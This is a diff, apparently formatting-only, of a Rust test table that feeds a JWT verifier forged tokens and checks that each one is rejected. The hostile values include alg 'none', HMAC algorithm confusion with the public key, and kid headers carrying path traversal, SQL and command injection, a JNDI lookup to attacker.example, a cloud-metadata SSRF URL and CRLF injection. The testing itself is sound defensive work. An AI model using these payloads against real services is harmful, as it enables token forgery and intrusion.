@@ -88,7 +88,14 @@ fn structures(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
         ("trailing dot", format!("{good}.")),
         ("padded signature", format!("{head}.{body}.{}", padded(tail))),
         ("padded parts", format!("{head}=.{body}=.{tail}=")),
-        ("standard base64", format!("{}.{}.{tail}", BASE64_STANDARD.encode(&head_text), BASE64_STANDARD.encode(format!("{text}???>>>")))),
+        (
+            "standard base64",
+            format!(
+                "{}.{}.{tail}",
+                BASE64_STANDARD.encode(&head_text),
+                BASE64_STANDARD.encode(format!("{text}???>>>"))
+            ),
+        ),
         ("blank inside", format!("{head}. {body}.{tail}")),
         ("line break inside", format!("{head}.{body}\n.{tail}")),
         ("null byte", format!("{head}.{body}.{tail}\0")),
@@ -148,10 +155,16 @@ fn algorithms(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
         let head = b64(&with(&header(key), "alg", none.into()).to_string());
         named.push((format!("alg {none:?}, no signature"), format!("{head}.{body}.")));
         named.push((format!("alg {none:?}, some signature"), format!("{head}.{body}.AAAA")));
-        named.push((format!("alg {none:?}, really signed"), sign(&with(&header(key), "alg", none.into()), valid, key)?));
+        named
+            .push((format!("alg {none:?}, really signed"), sign(&with(&header(key), "alg", none.into()), valid, key)?));
     }
-    for other in ["EDDSA", "eddsa", "Ed25519", "Ed448", "RS256", "ES256", "ES256K", "PS256", "HS256", "HS512", "A128KW", "dir"] {
-        named.push((format!("alg {other}, signed with Ed25519"), sign(&with(&header(key), "alg", other.into()), valid, key)?));
+    for other in
+        ["EDDSA", "eddsa", "Ed25519", "Ed448", "RS256", "ES256", "ES256K", "PS256", "HS256", "HS512", "A128KW", "dir"]
+    {
+        named.push((
+            format!("alg {other}, signed with Ed25519"),
+            sign(&with(&header(key), "alg", other.into()), valid, key)?,
+        ));
     }
     for value in [json!(null), json!(0), json!(true), json!(["EdDSA"]), json!({"alg": "EdDSA"})] {
         named.push((format!("alg {value}"), sign(&with(&header(key), "alg", value), valid, key)?));
@@ -161,15 +174,22 @@ fn algorithms(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
     // Algorithm confusion: the public key, in every spelling, as an HMAC secret.
     let x = BASE64_URL_SAFE_NO_PAD.encode(key.public());
     let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": x}).to_string();
-    let spki = [[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00].as_slice(), key.public()].concat();
+    let spki =
+        [[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00].as_slice(), key.public()].concat();
     let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", BASE64_STANDARD.encode(&spki));
     for (spelling, secret) in [
-        ("bytes", key.public()), ("base64url", x.as_bytes()), ("JWK", jwk.as_bytes()), ("DER", &spki), ("PEM", pem.as_bytes()),
-        ("nothing", b"".as_slice()), ("kid", key.kid().as_bytes()),
+        ("bytes", key.public()),
+        ("base64url", x.as_bytes()),
+        ("JWK", jwk.as_bytes()),
+        ("DER", &spki),
+        ("PEM", pem.as_bytes()),
+        ("nothing", b"".as_slice()),
+        ("kid", key.kid().as_bytes()),
     ] {
         let message = format!("{}.{body}", b64(&with(&header(key), "alg", "HS256".into()).to_string()));
-        let signature = jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256)
-            .map_err(|_| KeyError::Sign { kid: "HS256".to_owned() })?;
+        let signature =
+            jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256)
+                .map_err(|_| KeyError::Sign { kid: "HS256".to_owned() })?;
         named.push((format!("HS256 with the public key as {spelling}"), format!("{message}.{signature}")));
     }
     Ok(named)
@@ -196,15 +216,42 @@ fn headers(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
         }
     }
     for kid in [
-        "", ".", "../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "' OR '1'='1", "x' UNION SELECT 'a' --",
-        "$(id)", "`id`", "|id", "%00", "\0", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "*", "null", "0", "é", "\"}, \"alg\": \"none\"",
-        "http://169.254.169.254/latest/meta-data", "\r\nX-Injected: 1",
+        "",
+        ".",
+        "../../../../dev/null",
+        "/dev/null",
+        "..\\..\\windows\\win.ini",
+        "' OR '1'='1",
+        "x' UNION SELECT 'a' --",
+        "$(id)",
+        "`id`",
+        "|id",
+        "%00",
+        "\0",
+        "{{7*7}}",
+        "${jndi:ldap://attacker.example/a}",
+        "*",
+        "null",
+        "0",
+        "é",
+        "\"}, \"alg\": \"none\"",
+        "http://169.254.169.254/latest/meta-data",
+        "\r\nX-Injected: 1",
     ] {
         named.push((format!("kid {kid:?}"), sign(&with(&header(key), "kid", kid.into()), valid, key)?));
     }
-    named.push(("kid of 4,000 bytes".to_owned(), sign(&with(&header(key), "kid", "k".repeat(4_000).into()), valid, key)?));
-    named.push(("kid in capitals".to_owned(), sign(&with(&header(key), "kid", key.kid().to_uppercase().into()), valid, key)?));
-    named.push(("kid with a blank".to_owned(), sign(&with(&header(key), "kid", format!("{} ", key.kid()).into()), valid, key)?));
+    named.push((
+        "kid of 4,000 bytes".to_owned(),
+        sign(&with(&header(key), "kid", "k".repeat(4_000).into()), valid, key)?,
+    ));
+    named.push((
+        "kid in capitals".to_owned(),
+        sign(&with(&header(key), "kid", key.kid().to_uppercase().into()), valid, key)?,
+    ));
+    named.push((
+        "kid with a blank".to_owned(),
+        sign(&with(&header(key), "kid", format!("{} ", key.kid()).into()), valid, key)?,
+    ));
     for value in [json!(null), json!(0), json!([key.kid()]), json!({"kid": key.kid()}), json!(true)] {
         named.push((format!("kid {value}"), sign(&with(&header(key), "kid", value), valid, key)?));
     }
@@ -212,7 +259,16 @@ fn headers(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
     for value in [json!([]), json!(["exp"]), json!(["b64"]), json!(null), json!("exp")] {
         named.push((format!("crit {value}"), sign(&with(&header(key), "crit", value), valid, key)?));
     }
-    for value in [json!("JWE"), json!("id_token+jwt"), json!("dpop+jwt"), json!("logout+jwt"), json!(""), json!(1), json!(null), json!(["JWT"])] {
+    for value in [
+        json!("JWE"),
+        json!("id_token+jwt"),
+        json!("dpop+jwt"),
+        json!("logout+jwt"),
+        json!(""),
+        json!(1),
+        json!(null),
+        json!(["JWT"]),
+    ] {
         named.push((format!("typ {value}"), sign(&with(&header(key), "typ", value), valid, key)?));
     }
     Ok(named)
@@ -225,8 +281,20 @@ fn claims(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
     let strange = |claim: &str| {
         let at = valid[claim].as_i64().unwrap_or(0);
         vec![
-            json!(at.to_string()), fraction(at, 5), fraction(at, 0), json!(-at), json!(-1), json!(longest), json!(u64::MAX),
-            json!(1e300), json!(i64::MIN), json!(null), json!(true), json!([at]), json!({"at": at}), json!(""),
+            json!(at.to_string()),
+            fraction(at, 5),
+            fraction(at, 0),
+            json!(-at),
+            json!(-1),
+            json!(longest),
+            json!(u64::MAX),
+            json!(1e300),
+            json!(i64::MIN),
+            json!(null),
+            json!(true),
+            json!([at]),
+            json!({"at": at}),
+            json!(""),
         ]
     };
     let mut changes: Vec<(&str, Value)> = Vec::new();
@@ -235,18 +303,51 @@ fn claims(valid: &Value, key: &SigningKey) -> Result<Named, KeyError> {
     }
     let issued = valid["iat"].as_i64().unwrap_or(0);
     changes.extend([
-        ("exp", json!(0)), ("exp", json!(issued - 86_400)), ("nbf", json!(issued + 86_400)), ("iat", json!(issued + 86_400)),
-        ("aud", json!([instance])), ("aud", json!([instance, "other"])), ("aud", json!("other")), ("aud", json!("")), ("aud", json!(null)),
-        ("aud", json!(["other"])), ("aud", json!([])), ("aud", json!({"a": instance})), ("aud", json!(true)),
-        ("iss", json!("other")), ("iss", json!("")), ("iss", json!(null)), ("iss", json!([instance])), ("iss", json!(1)),
-        ("iss", json!("https://attacker.example")), ("iss", json!("x".repeat(1_000))),
-        ("sub", json!("")), ("sub", json!(null)), ("sub", json!(1)), ("sub", json!("admin")), ("sub", json!("prn_")), ("sub", json!(["a"])),
-        ("sub", json!("' OR 1=1 --")), ("sub", json!("x".repeat(1_000))),
-        ("org", json!("")), ("org", json!("*")), ("org", json!(null)), ("org", json!(["org_01h455vb4pex5vsknk084sn02q"])), ("org", json!("acme")),
-        ("org", json!("prn_01h455vb4pex5vsknk084sn02q")), ("org", json!(1)),
-        ("sid", json!("")), ("sid", json!(1)), ("sid", json!("x")), ("sid", json!(null)),
-        ("jti", json!("")), ("jti", json!(1)), ("jti", json!(null)),
-        ("scope", json!(["accounts:read"])), ("scope", json!(1)), ("scope", json!(null)),
+        ("exp", json!(0)),
+        ("exp", json!(issued - 86_400)),
+        ("nbf", json!(issued + 86_400)),
+        ("iat", json!(issued + 86_400)),
+        ("aud", json!([instance])),
+        ("aud", json!([instance, "other"])),
+        ("aud", json!("other")),
+        ("aud", json!("")),
+        ("aud", json!(null)),
+        ("aud", json!(["other"])),
+        ("aud", json!([])),
+        ("aud", json!({"a": instance})),
+        ("aud", json!(true)),
+        ("iss", json!("other")),
+        ("iss", json!("")),
+        ("iss", json!(null)),
+        ("iss", json!([instance])),
+        ("iss", json!(1)),
+        ("iss", json!("https://attacker.example")),
+        ("iss", json!("x".repeat(1_000))),
+        ("sub", json!("")),
+        ("sub", json!(null)),
+        ("sub", json!(1)),
+        ("sub", json!("admin")),
+        ("sub", json!("prn_")),
+        ("sub", json!(["a"])),
+        ("sub", json!("' OR 1=1 --")),
+        ("sub", json!("x".repeat(1_000))),
+        ("org", json!("")),
+        ("org", json!("*")),
+        ("org", json!(null)),
+        ("org", json!(["org_01h455vb4pex5vsknk084sn02q"])),
+        ("org", json!("acme")),
+        ("org", json!("prn_01h455vb4pex5vsknk084sn02q")),
+        ("org", json!(1)),
+        ("sid", json!("")),
+        ("sid", json!(1)),
+        ("sid", json!("x")),
+        ("sid", json!(null)),
+        ("jti", json!("")),
+        ("jti", json!(1)),
+        ("jti", json!(null)),
+        ("scope", json!(["accounts:read"])),
+        ("scope", json!(1)),
+        ("scope", json!(null)),
     ]);
     let mut named = Named::new();
     for (claim, value) in changes {
@@ -307,15 +408,30 @@ mod tests {
         for _ in 0..2 {
             for attack in &attacks {
                 let error = verifier.verify(&attack.token, now).expect_err(&attack.name);
-                assert!(error.challenge().bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{}: {error}", attack.name);
+                assert!(
+                    error.challenge().bytes().all(|byte| (b' '..=b'~').contains(&byte)),
+                    "{}: {error}",
+                    attack.name
+                );
                 kinds.insert(variant(&error));
             }
             assert!(verifier.verify(&good, now).is_ok());
         }
         // The table reaches each check that a token of our own can fail.
         for kind in [
-            "TooLong", "WrongParts", "BadEncoding", "BadJson", "BadHeader", "WrongAlgorithm", "UnknownIssuer", "UnknownKey",
-            "BadSignature", "BadClaim", "WrongAudience", "Expired", "NotYetValid",
+            "TooLong",
+            "WrongParts",
+            "BadEncoding",
+            "BadJson",
+            "BadHeader",
+            "WrongAlgorithm",
+            "UnknownIssuer",
+            "UnknownKey",
+            "BadSignature",
+            "BadClaim",
+            "WrongAudience",
+            "Expired",
+            "NotYetValid",
         ] {
             assert!(kinds.contains(kind), "{kind} was not met: {kinds:?}");
         }
